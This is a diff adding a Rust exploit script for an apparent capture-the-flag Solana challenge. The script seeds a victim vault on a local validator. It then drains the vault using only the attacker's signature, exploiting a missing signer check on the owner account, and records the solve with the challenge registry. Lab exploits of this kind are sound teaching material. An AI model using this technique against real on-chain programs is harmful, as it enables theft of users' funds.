@@ -0,0 +1,101 @@
+//! missing-signer-check: drain a victim's vault without their signature.
+//!
+//! `WithdrawCtx` checks `has_one = owner` but types `owner` as an
+//! `UncheckedAccount`, so passing the victim's address is enough. The victim
+//! vault is seeded with `setup_victim`, so the payer must be the program's
+//! upgrade authority, as on a `cargo xtask deploy-local` validator. If the
+//! challenge is registered, `verify_exploit` then records the solve.
+
+use anchor_client::solana_sdk::{
+    bpf_loader_upgradeable,
+    pubkey::Pubkey,
+    signature::{Keypair, Signer},
+    system_program, sysvar,
+};
+use exploits::{Exploit, ExploitResult};
+
+const DEPOSIT: u64 = 1_000_000;
+
+fn main() -> ExploitResult<()> {
+    let exploit = Exploit::from_args()?;
+    let program = exploit.program(pda::ID)?;
+    let attacker = exploit.payer.pubkey();
+
+    // A victim with DEPOSIT tokens of a fresh mint in vault 0, seeded by the
+    // payer as the program's upgrade authority so `verify_exploit` counts it
+    let victim = exploit.new_victim()?;
+    let mint = exploit.create_mint(6)?;
+    let authority_token_account = exploit.create_token_account(&attacker, &mint)?;
+    exploit.mint_to(&mint, &authority_token_account, DEPOSIT)?;
+    let (vault, _) = pda::vault_address(&victim.pubkey(), 0);
+    let vault_token_account = Keypair::new();
+
+    program
+        .request()
+        .accounts(pda::accounts::SetupVictim {
+            vault,
+            vault_token_account: vault_token_account.pubkey(),
+            token_mint: mint,
+            authority_token_account,
+            victim: victim.pubkey(),
+            program: pda::ID,
+            program_data: bpf_loader_upgradeable::get_program_data_address(&pda::ID),
+            authority: attacker,
+            token_program: spl_token::id(),
+            system_program: system_program::id(),
+            rent: sysvar::rent::id(),
+        })
+        .args(pda::instruction::SetupVictim { vault_id: 0, amount: DEPOSIT })
+        .signer(&vault_token_account)
+        .send()
+        .map_err(|err| format!("setup_victim failed, is the payer the upgrade authority? {err}"))?;
+    println!("victim {} holds {DEPOSIT} in vault {vault}", victim.pubkey());
+
+    // The exploit: only the attacker signs, `owner` is just the victim's address
+    let loot = exploit.create_token_account(&attacker, &mint)?;
+    let signature = program
+        .request()
+        .accounts(pda::accounts::WithdrawCtx {
+            vault,
+            vault_token_account: vault_token_account.pubkey(),
+            token_mint: mint,
+            destination: loot,
+            token_program: spl_token::id(),
+            owner: victim.pubkey(),
+        })
+        .args(pda::instruction::Withdraw { amount: DEPOSIT })
+        .send()?;
+    println!(
+        "withdraw {signature}: attacker holds {}, vault holds {}",
+        exploit.token_balance(&loot)?,
+        exploit.token_balance(&vault_token_account.pubkey())?
+    );
+
+    capture_flag(&exploit, vault, vault_token_account.pubkey(), loot)
+}
+
+fn capture_flag(exploit: &Exploit, vault: Pubkey, vault_token_account: Pubkey, loot: Pubkey) -> ExploitResult<()> {
+    let player = exploit.payer.pubkey();
+    let Some((challenge, solve)) = exploit.registry_solve(pda::CHALLENGE_ID, &player)? else {
+        println!("{} is not registered on this cluster, skipping verify_exploit", pda::CHALLENGE_ID);
+        return Ok(());
+    };
+    let signature = exploit
+        .program(pda::ID)?
+        .request()
+        .accounts(pda::accounts::VerifyExploit {
+            vault,
+            vault_token_account,
+            loot,
+            challenge,
+            solve,
+            flag_authority: ctf_registry::flag_authority_address(&pda::ID),
+            player,
+            registry_program: ctf_registry::ID,
+            system_program: system_program::id(),
+        })
+        .args(pda::instruction::VerifyExploit {})
+        .send()?;
+    println!("verify_exploit {signature}: solve recorded at {solve}");
+    Ok(())
+}